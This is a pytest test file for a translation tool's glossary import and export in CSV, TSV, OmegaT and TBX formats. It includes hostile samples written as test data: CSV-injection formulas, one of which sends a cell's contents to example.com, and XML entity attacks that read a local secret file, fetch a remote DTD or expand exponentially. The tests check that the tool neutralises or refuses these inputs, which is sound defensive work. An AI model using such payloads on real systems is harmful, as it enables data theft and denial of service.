"""Glossary files: CSV/TSV and TBX read and written, other tools' files, and bad or hostile files refused whole."""

from __future__ import annotations

import codecs
import csv
import io
from pathlib import Path

import pytest
from translate.storage.csvl10n import csvunit
from translate.storage.omegat import OmegaTFile as omegatfile
from translate.storage.tbx import tbxfile

from tarjama.domain import GlossaryEntry
from tarjama.errors import BadInputError
from tarjama.formats.glossary_csv import read_glossary_csv, write_glossary_csv
from tarjama.formats.registry import GLOSSARY_FORMATS
from tarjama.formats.tbx import TbxReport, read_tbx, write_tbx
from tarjama.glossary.exchange import export_glossary, import_glossary
from tarjama.glossary.store import Glossary

ENTRIES = [
    GlossaryEntry("النصرة", ("Nusra Front", "al-Nusra", "Jabhat al-Nusra"), note="Renamed in 2016, see «فتح الشام».",
                  forbidden=("Victory Front", "Support Front")),
    GlossaryEntry("الجيش السوري الحر", ("Free Syrian Army",), note='Say "the FSA", not "rebels";\ta tab, a, comma'),
    GlossaryEntry("مجلس الأمن", ("Security Council",), note="First line\nsecond line"),
    GlossaryEntry("إدلب", ("Idlib",)),
]


def read_csv(tmp_path: Path, name: str, data: bytes) -> list[GlossaryEntry]:
    """The entries of a file named `name` holding `data`, read by the format its extension names, as an import does."""
    path = tmp_path / name
    glossary_format = GLOSSARY_FORMATS.find(path)
    assert glossary_format is not None
    return list(glossary_format.read(data, path, TbxReport()))


# -- CSV and TSV ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "delimiter"), [("terms.csv", ","), ("terms.tsv", "\t")])
def test_csv_and_tsv_round_trip(tmp_path: Path, name: str, delimiter: str) -> None:
    data = write_glossary_csv(ENTRIES, delimiter)
    assert data.startswith(codecs.BOM_UTF8)  # so Excel opens the Arabic as Arabic
    assert data.split(b"\r\n")[0] == codecs.BOM_UTF8 + delimiter.join(["arabic", "english", "note",
                                                                        "forbidden"]).encode()
    assert read_csv(tmp_path, name, data) == ENTRIES


def test_a_hand_made_csv_with_other_column_names_and_separators(tmp_path: Path) -> None:
    data = (
        "Term ID,AR-SA,en_US,Notes,Forbidden\n"
        "1,جيش,army | military,,troops;  forces\n"
        ",,,,\n"
        "2,\"حلب\",\"Aleppo\",\"the city, not the province\",\n"
    ).encode()
    assert read_csv(tmp_path, "terms.csv", data) == [
        GlossaryEntry("جيش", ("army", "military"), forbidden=("troops", "forces")),
        GlossaryEntry("حلب", ("Aleppo",), note="the city, not the province"),
    ]


def test_a_semicolon_csv_from_a_european_excel(tmp_path: Path) -> None:
    data = codecs.BOM_UTF8 + "arabic;english;note\nجيش;army;\"the army; any\"\n".encode()
    assert read_csv(tmp_path, "terms.csv", data) == [GlossaryEntry("جيش", ("army",), note="the army; any")]


#: Cells a spreadsheet would run as formulas (OWASP "CSV injection"), in every column, and cells that already
#: begin with the quote that neutralises them.
FORMULA_LIKE = [
    GlossaryEntry("=حلب", ('=HYPERLINK("http://example.com/?leak="&A1,"Aleppo")',), note="+ the city"),
    GlossaryEntry("إدلب", ("-ism", "Idlib"), note="@mention", forbidden=("=1+1",)),
    GlossaryEntry("@جيش", ("+army",), note="-1 is not a term", forbidden=("-troops", "forces")),
    GlossaryEntry("'=مسبوق", ("'=already quoted", "x"), note="''-two quotes", forbidden=("'",)),
    GlossaryEntry("'حماة", ("'Hama",), note="a quote before an ordinary letter stays"),
]


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_cells_a_spreadsheet_would_run_as_formulas_are_quoted(delimiter: str) -> None:
    """Read back by the csv module: no cell begins with =, +, -, @, a tab or a carriage return; those that did
    carry one quote more, as translate-toolkit escapes formulas for spreadsheets too."""
    data = write_glossary_csv([*FORMULA_LIKE, GlossaryEntry("حمص", ("Homs",), note="\tindented\rnote")], delimiter)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert rows[1] == ["'=حلب", '\'=HYPERLINK("http://example.com/?leak="&A1,"Aleppo")', "'+ the city", ""]
    assert rows[2] == ["إدلب", "'-ism; Idlib", "'@mention", "'=1+1"]
    assert rows[4] == ["''=مسبوق", "''=already quoted; x", "'''-two quotes", "'"]
    assert rows[5] == ["'حماة", "'Hama", "a quote before an ordinary letter stays", ""]
    assert rows[6][2] == "'\tindented\rnote"
    spreadsheet = csvunit()  # translate-toolkit's escaping of the four formula characters
    originals = [FORMULA_LIKE[0].source, FORMULA_LIKE[0].targets[0], FORMULA_LIKE[1].note, "-troops; forces"]
    assert [spreadsheet.add_spreadsheet_escape(cell) for cell in originals] == [
        rows[1][0], rows[1][1], rows[2][2], rows[3][3]]


@pytest.mark.parametrize("name", ["terms.csv", "terms.tsv"])
def test_quoted_formula_cells_import_back_as_they_were(tmp_path: Path, name: str) -> None:
    """Import takes off exactly the quote export put on, so export → import gives every entry back unchanged,
    including one that itself began with quotes."""
    mine = tmp_path / "mine.tarjama-glossary"
    with Glossary.create(mine) as glossary:
        glossary.import_entries(FORMULA_LIKE)
    export_glossary(mine, tmp_path / name)
    other = tmp_path / "other.tarjama-glossary"
    assert import_glossary(other, tmp_path / name).added == len(FORMULA_LIKE)
    with Glossary.open(other) as glossary:
        assert [GlossaryEntry(e.source, e.targets, e.note, e.forbidden) for e in glossary.entries()] == FORMULA_LIKE


def test_excel_unicode_text_and_windows_arabic(tmp_path: Path) -> None:
    unicode_text = "arabic\tenglish\r\nجيش\tarmy\r\n".encode("utf-16")
    assert read_csv(tmp_path, "terms.txt.tsv", unicode_text) == [GlossaryEntry("جيش", ("army",))]
    rows = [("الجيش السوري الحر", "Free Syrian Army"), ("مجلس الأمن", "Security Council"),
            ("وقف إطلاق النار", "ceasefire"), ("الأمم المتحدة", "United Nations"), ("حلب", "Aleppo")]
    legacy = b"arabic,english\n" + "".join(f"{ar},{en}\n" for ar, en in rows).encode("cp1256")
    assert [e.source for e in read_csv(tmp_path, "terms.csv", legacy)] == [ar for ar, _ in rows]


def test_a_missing_column_is_named(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match="no column for the English term") as raised:
        read_csv(tmp_path, "terms.csv", "arabic,translation\nجيش,army\n".encode())
    assert raised.value.path.name == "terms.csv" and "'translation'" in str(raised.value)
    with pytest.raises(BadInputError, match="is empty"):
        read_csv(tmp_path, "terms.csv", codecs.BOM_UTF8)
    with pytest.raises(BadInputError, match="two columns for the Arabic term"):
        read_csv(tmp_path, "terms.csv", "arabic,english,source\nجيش,army,جيش\n".encode())


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        (',army,"a note"', "line 4: the Arabic term is empty"),
        ("جيش,,", "line 4: there is no English term for «جيش»"),
        ("army,جيش,", "line 4: the Arabic term «army» has no Arabic letter"),
    ],
)
def test_a_bad_row_names_its_line_when_it_is_reached(tmp_path: Path, row: str, problem: str) -> None:
    data = f'arabic,english,note\nحلب,Aleppo,"two\nlines"\n{row}\n'.encode()
    entries = read_glossary_csv(data, tmp_path / "terms.csv")
    assert next(entries).source == "حلب"
    with pytest.raises(BadInputError, match=problem):
        next(entries)


def test_a_missing_closing_quote_is_reported(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match="line 2 cannot be read"):
        read_csv(tmp_path, "terms.csv", 'arabic,english\nجيش,"army\n'.encode())


# -- without a header row, and OmegaT's glossaries ----------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("terms.csv", "جيش,army\r\nحلب,Aleppo | Halab\r\n"),
        ("terms.csv", 'جيش,army,"the army, not the militia"\nحلب,Aleppo | Halab,\n'),
        ("terms.csv", "\ufeffجيش;army;the army, not the militia\n\nحلب;Aleppo | Halab\n"),
        ("terms.tsv", "جيش\tarmy\tthe army, not the militia\nحلب\tAleppo | Halab\n"),
    ],
    ids=["csv-2-columns", "csv-3-columns", "semicolons", "tsv"],
)
def test_a_file_without_a_header_row_has_arabic_english_note_in_order(tmp_path: Path, name: str, data: str) -> None:
    note = "the army, not the militia" if "militia" in data else ""
    assert read_csv(tmp_path, name, data.encode()) == [
        GlossaryEntry("جيش", ("army",), note=note),
        GlossaryEntry("حلب", ("Aleppo", "Halab")),
    ]


@pytest.mark.parametrize(
    ("header", "row"),
    [
        ("Source,Target,Comment", "جيش,army,a note"),
        ("العربية,الإنجليزية,ملاحظات", "جيش,army,a note"),
        ("عربي,الانكليزية,تعليق", "جيش,army,a note"),
        ("المصطلح,المصدر,الهدف,ملاحظة", "1,جيش,army,a note"),
    ],
    ids=["english-names", "arabic-names", "arabic-variants", "arabic-other-column"],
)
def test_a_header_row_in_english_or_arabic_is_recognised(tmp_path: Path, header: str, row: str) -> None:
    assert read_csv(tmp_path, "terms.csv", f"{header}\n{row}\n".encode()) == [
        GlossaryEntry("جيش", ("army",), note="a note")
    ]


@pytest.mark.parametrize(
    "first",
    [
        "المصدر,source",  # both cells name the Arabic column: a term and its translation
        "ملاحظة,note,a short remark",
        "الرقة,ar-Raqqa,en-route to Deir ez-Zor",
        "هدف,target",
    ],
    ids=["source-source", "note-note", "language-codes-in-words", "target-target"],
)
def test_a_first_row_of_terms_is_data_not_a_header(tmp_path: Path, first: str) -> None:
    entries = read_csv(tmp_path, "terms.csv", f"{first}\nجيش,army\n".encode())
    cells = first.split(",")
    assert entries == [
        GlossaryEntry(cells[0], (cells[1],), note=cells[2] if len(cells) > 2 else ""),
        GlossaryEntry("جيش", ("army",)),
    ]


def test_a_header_naming_only_some_columns_is_still_a_header(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match=r"no column for the English term .*'العربية', 'ترجمة'"):
        read_csv(tmp_path, "terms.csv", "العربية,ترجمة\nجيش,army\n".encode())
    with pytest.raises(BadInputError, match=r"no column for the English term .*'arabic', 'translation'"):
        read_csv(tmp_path, "terms.csv", "arabic;translation\nجيش;army\n".encode())


def test_a_bad_row_without_a_header_names_its_line(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match="line 1: the Arabic term «Term» has no Arabic letter"):
        read_csv(tmp_path, "terms.csv", "Term,Translation\nجيش,army\n".encode())
    with pytest.raises(BadInputError, match="line 3: there is no English term for «حلب»"):
        read_csv(tmp_path, "terms.csv", "جيش,army\n\nحلب\n".encode())


OMEGAT = (
    "# Glossary in tab-separated format -*- coding: utf-8 -*-\r\n"
    "النصرة\tNusra Front\tRenamed in 2016, see \"فتح الشام\".\r\n"
    "#النصرة\tcommented out\r\n"
    "النصرة\tal-Nusra\r\n"
    "\r\n"
    "الجيش السوري الحر\t\"Free\" Syrian Army\t\r\n"
)


@pytest.mark.parametrize("bom", [b"", codecs.BOM_UTF8])
def test_an_omegat_glossary_with_comment_lines(tmp_path: Path, bom: bytes) -> None:
    glossary_path = tmp_path / "g.tarjama-glossary"
    omegat = tmp_path / "glossary.txt"
    omegat.write_bytes(bom + OMEGAT.encode())
    report = import_glossary(glossary_path, omegat)
    assert (report.added, report.merged) == (2, 1)  # OmegaT gives a term's second translation a line of its own
    with Glossary.open(glossary_path) as glossary:
        assert [GlossaryEntry(e.source, e.targets, e.note, e.forbidden) for e in glossary.entries()] == [
            GlossaryEntry("النصرة", ("Nusra Front", "al-Nusra"), note='Renamed in 2016, see "فتح الشام".'),
            GlossaryEntry("الجيش السوري الحر", ('"Free" Syrian Army',)),  # no quoting in OmegaT's files
        ]


def test_a_bad_omegat_line_is_numbered_counting_the_comments(tmp_path: Path) -> None:
    data = "# Glossary\n# another comment\nجيش\tarmy\nSyria\tسورية\n".encode()
    with pytest.raises(BadInputError, match="line 4: the Arabic term «Syria» has no Arabic letter"):
        list(read_glossary_csv(data, tmp_path / "glossary.txt", omegat=True))
    with pytest.raises(BadInputError, match="is empty"):
        list(read_glossary_csv(b"# Glossary\n", tmp_path / "glossary.txt", omegat=True))


def exported_as_omegat(tmp_path: Path) -> bytes:
    """ENTRIES exported to tmp_path/terms.txt, read back as bytes."""
    mine = tmp_path / "mine.tarjama-glossary"
    with Glossary.create(mine) as glossary:
        glossary.import_entries(ENTRIES)
    assert export_glossary(mine, tmp_path / "terms.txt") == len(ENTRIES)
    return (tmp_path / "terms.txt").read_bytes()


def test_an_omegat_export_has_a_line_per_english_term(tmp_path: Path) -> None:
    data = exported_as_omegat(tmp_path)
    lines = data.decode("utf-8").split("\r\n")
    assert lines[0] == "# Glossary in tab-separated format -*- coding: utf-8 -*-"
    comment = "Renamed in 2016, see «فتح الشام». | forbidden: Victory Front; Support Front"
    assert lines[1:] == [
        f"النصرة\tNusra Front\t{comment}",
        f"النصرة\tal-Nusra\t{comment}",
        f"النصرة\tJabhat al-Nusra\t{comment}",
        'الجيش السوري الحر\tFree Syrian Army\tSay "the FSA", not "rebels"; a tab, a, comma',
        "مجلس الأمن\tSecurity Council\tFirst line second line",  # OmegaT reads a line per term
        "إدلب\tIdlib",
        "",
    ]
    units = [u for u in omegatfile(data).units if u.source and not u.source.startswith("#")]
    assert [(u.source, u.target) for u in units] == [(e.source, t) for e in ENTRIES for t in e.targets]
    other = tmp_path / "other.tarjama-glossary"
    report = import_glossary(other, tmp_path / "terms.txt")
    assert (report.added, report.merged) == (4, 2)
    with Glossary.open(other) as glossary:
        assert [(e.source, e.targets) for e in glossary.entries()] == [(e.source, e.targets) for e in ENTRIES]


# -- TBX ------------------------------------------------------------------------------------------------------


def test_tbx_round_trip_and_other_tools_read_it(tmp_path: Path) -> None:
    data = write_tbx(ENTRIES)
    assert data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<martif type="TBX-Basic"')
    assert list(read_tbx(data, tmp_path / "terms.tbx")) == ENTRIES
    out = tmp_path / "terms.tbx"
    out.write_bytes(data)
    with out.open("rb") as handle:
        units = tbxfile(handle).units
    assert [(unit.source, unit.target) for unit in units] == [(e.source, e.targets[0]) for e in ENTRIES]


TBX_BASIC_2008 = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXBasiccoreStructV02.dtd">
<martif type="TBX-Basic-V1" xml:lang="en-US">
  <martifHeader><fileDesc><sourceDesc><p>Exported from MultiTerm</p></sourceDesc></fileDesc></martifHeader>
  <text><body>
    <termEntry id="t1">
      <descripGrp><descrip type="definition">An armed opposition group.</descrip></descripGrp>
      <langSet xml:lang="ar-SA">
        <tig><term>الجيش الحر</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
        <ntig><termGrp><term>الجيش السوري الحر</term></termGrp></ntig>
        <tig><term>جيش التحرير</term>
          <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></tig>
      </langSet>
      <langSet xml:lang="en-US">
        <note>Spell out on first use.</note>
        <tig><term>rebels</term><termNote type="administrativeStatus">supersededTerm-admn-sts</termNote></tig>
        <tig><term>FSA</term><termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></tig>
        <tig><term>Free Syrian <hi>Army</hi></term>
          <termNote type="partOfSpeech">noun</termNote>
          <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
      </langSet>
      <langSet xml:lang="fr-FR"><tig><term>Armée syrienne libre</term></tig></langSet>
    </termEntry>
    <termEntry id="t2">
      <langSet xml:lang="en"><tig><term>ceasefire</term></tig></langSet>
      <langSet xml:lang="fr"><tig><term>cessez-le-feu</term></tig></langSet>
    </termEntry>
  </body></text>
</martif>
"""

TBX_V3 = """<?xml version="1.0" encoding="UTF-8"?>
<?xml-model href="TBXcoreStructV03_TBX-Basic_integrated.rng" type="application/xml"
  schematypens="http://relaxng.org/ns/structure/1.0"?>
<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
  <tbxHeader><fileDesc><sourceDesc><p>termbase</p></sourceDesc></fileDesc></tbxHeader>
  <text><body>
    <conceptEntry id="c5">
      <descrip type="definition">Agreement to stop fighting.</descrip>
      <langSec xml:lang="ar">
        <termSec><term>وقف إطلاق النار</term></termSec>
      </langSec>
      <langSec xml:lang="en">
        <termSec><term>truce</term><termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></termSec>
        <termSec><term>ceasefire</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec>
        <termSec><term>cease-fire</term>
          <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></termSec>
      </langSec>
    </conceptEntry>
  </body></text>
</tbx>
"""

TBX_V3_DCT = """<?xml version="1.0" encoding="UTF-8"?>
<tbx type="TBX-Basic" style="dct" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"
     xmlns:basic="http://www.tbxinfo.net/ns/basic">
  <tbxHeader><fileDesc><sourceDesc><p>termbase</p></sourceDesc></fileDesc></tbxHeader>
  <text><body>
    <conceptEntry id="c1">
      <langSec xml:lang="ar"><termSec><term>حلب</term></termSec></langSec>
      <langSec xml:lang="en">
        <termSec><term>Halab</term><basic:administrativeStatus>deprecatedTerm-admn-sts</basic:administrativeStatus></termSec>
        <termSec><term>Aleppo</term></termSec>
      </langSec>
    </conceptEntry>
  </body></text>
</tbx>
"""


def test_reading_a_tbx_basic_2008_file_from_another_tool(tmp_path: Path) -> None:
    report = TbxReport()
    entries = list(read_tbx(TBX_BASIC_2008.encode(), tmp_path / "multiterm.tbx", report))
    english = ("Free Syrian Army", "FSA")
    notes = "An armed opposition group.\nSpell out on first use."
    assert entries == [
        GlossaryEntry("الجيش الحر", english, note=notes, forbidden=("rebels",)),
        GlossaryEntry("الجيش السوري الحر", english, note=notes, forbidden=("rebels",)),
    ]
    assert (report.concepts, report.entries, report.skipped_concepts) == (2, 2, 1)
    assert report.languages == {"ar", "en", "fr"}


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (TBX_V3, GlossaryEntry("وقف إطلاق النار", ("ceasefire", "truce"), note="Agreement to stop fighting.",
                               forbidden=("cease-fire",))),
        (TBX_V3_DCT, GlossaryEntry("حلب", ("Aleppo",), forbidden=("Halab",))),
    ],
)
def test_reading_tbx_v3_concept_entries(tmp_path: Path, document: str, expected: GlossaryEntry) -> None:
    assert list(read_tbx(document.encode(), tmp_path / "v3.tbx")) == [expected]


def test_malformed_tbx_names_the_line(tmp_path: Path) -> None:
    broken = TBX_V3.replace("</termSec>\n      </langSec>", "</termSec>\n      </langSc>", 1)
    line = broken.splitlines().index("      </langSc>") + 1
    entries = read_tbx(broken.encode(), tmp_path / "broken.tbx")
    with pytest.raises(BadInputError, match=rf"broken\.tbx: is not well-formed XML \(line {line}:"):
        list(entries)


def test_xml_that_is_not_tbx_is_refused(tmp_path: Path) -> None:
    tmx = b'<?xml version="1.0"?><tmx version="1.4"><header/><body/></tmx>'
    with pytest.raises(BadInputError, match="not a TBX file"):
        list(read_tbx(tmx, tmp_path / "memory.tbx"))


def _hostile(declarations: str, body: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE martif [\n{declarations}\n]>\n'
            f'<martif type="TBX-Basic"><text><body><termEntry>'
            f'<langSet xml:lang="ar"><tig><term>سر</term></tig></langSet>'
            f'<langSet xml:lang="en"><tig><term>{body}</term></tig></langSet>'
            f"</termEntry></body></text></martif>\n")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    ("declarations", "body"),
    [
        ('<!ENTITY secret SYSTEM "{secret}">', "&secret;"),
        ('<!ENTITY % remote SYSTEM "http://203.0.113.7/evil.dtd"> %remote;', "x"),
        ('<!ENTITY web SYSTEM "http://203.0.113.7/term">', "&web;"),
        ('<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">', "&c;"),
    ],
)
def test_entity_declarations_are_refused_without_reading_or_connecting(
    tmp_path: Path, declarations: str, body: str, encoding: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE", encoding="utf-8")
    document = _hostile(declarations.format(secret=secret.as_uri()), body).replace('encoding="UTF-8"',
                                                                                    f'encoding="{encoding}"')
    glossary_path = tmp_path / "g.tarjama-glossary"
    hostile = tmp_path / "hostile.tbx"
    hostile.write_bytes(document.encode(encoding))
    with pytest.raises(BadInputError, match="entity declarations") as raised:
        import_glossary(glossary_path, hostile)
    assert "TOP-SECRET" not in str(raised.value)
    with Glossary.open(glossary_path) as glossary:
        assert glossary.entries() == []


# -- import and export services -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["terms.csv", "terms.tsv", "terms.tbx"])
def test_export_then_import_into_another_glossary(tmp_path: Path, name: str) -> None:
    mine = tmp_path / "mine.tarjama-glossary"
    with Glossary.create(mine) as glossary:
        glossary.import_entries(ENTRIES)
    out = tmp_path / name
    assert export_glossary(mine, out) == len(ENTRIES)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["mine.tarjama-glossary", name])  # no temp files
    other = tmp_path / "other.tarjama-glossary"
    report = import_glossary(other, out)
    assert (report.added, report.merged) == (4, 0)
    assert report.summary() == f"Imported {name}: 4 terms added, 0 merged with terms already there."
    assert import_glossary(other, out).merged == 4
    with Glossary.open(other) as glossary:
        assert [GlossaryEntry(e.source, e.targets, e.note, e.forbidden) for e in glossary.entries()] == ENTRIES


def test_an_import_with_a_bad_row_changes_nothing(tmp_path: Path) -> None:
    glossary_path = tmp_path / "g.tarjama-glossary"
    with Glossary.create(glossary_path) as glossary:
        glossary.add(GlossaryEntry("جيش", ("army",)))
    bad = tmp_path / "bad.csv"
    bad.write_text("arabic,english\nحلب,Aleppo\nجيش,military\n,orphan\nإدلب,Idlib\n", encoding="utf-8")
    with pytest.raises(BadInputError, match=r"bad\.csv: line 4: the Arabic term is empty"):
        import_glossary(glossary_path, bad)
    with Glossary.open(glossary_path) as glossary:
        assert [(e.source, e.targets) for e in glossary.entries()] == [("جيش", ("army",))]


def test_a_file_without_usable_terms_is_refused(tmp_path: Path) -> None:
    french = tmp_path / "fr.tbx"
    french.write_text(TBX_BASIC_2008.replace('xml:lang="ar-SA"', 'xml:lang="de"'), encoding="utf-8")
    with pytest.raises(BadInputError, match=r"no Arabic term .*languages found: de, en, fr"):
        import_glossary(tmp_path / "g.tarjama-glossary", french)
    header_only = tmp_path / "empty.csv"
    header_only.write_text("arabic,english\n", encoding="utf-8")
    with pytest.raises(BadInputError, match="no Arabic term with an English translation; nothing was imported"):
        import_glossary(tmp_path / "g.tarjama-glossary", header_only)


def test_unsupported_extensions_missing_files_and_folders(tmp_path: Path) -> None:
    glossary_path = tmp_path / "g.tarjama-glossary"
    Glossary.create(glossary_path).close()
    with pytest.raises(BadInputError, match=r"is a \.xlsx file; .* \.csv, \.tsv, \.tbx, \.txt files"):
        import_glossary(glossary_path, tmp_path / "terms.xlsx")
    with pytest.raises(BadInputError, match="without an extension"):
        export_glossary(glossary_path, tmp_path / "terms")
    with pytest.raises(BadInputError, match="was not found"):
        import_glossary(glossary_path, tmp_path / "missing.csv")
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(BadInputError, match="is a folder"):
        export_glossary(glossary_path, tmp_path / "folder.csv")
    with pytest.raises(BadInputError, match="could not be written"):
        export_glossary(glossary_path, tmp_path / "no" / "such" / "folder.csv")


def test_a_failed_export_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    glossary_path = tmp_path / "g.tarjama-glossary"
    with Glossary.create(glossary_path) as glossary:
        glossary.import_entries(ENTRIES)
    out = tmp_path / "terms.csv"
    out.write_text("the previous export", encoding="utf-8")

    def full_disk(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("tarjama.atomic_file.os.fsync", full_disk)
    with pytest.raises(BadInputError, match="No space left"):
        export_glossary(glossary_path, out)
    assert out.read_text(encoding="utf-8") == "the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.tarjama-glossary", "terms.csv"]
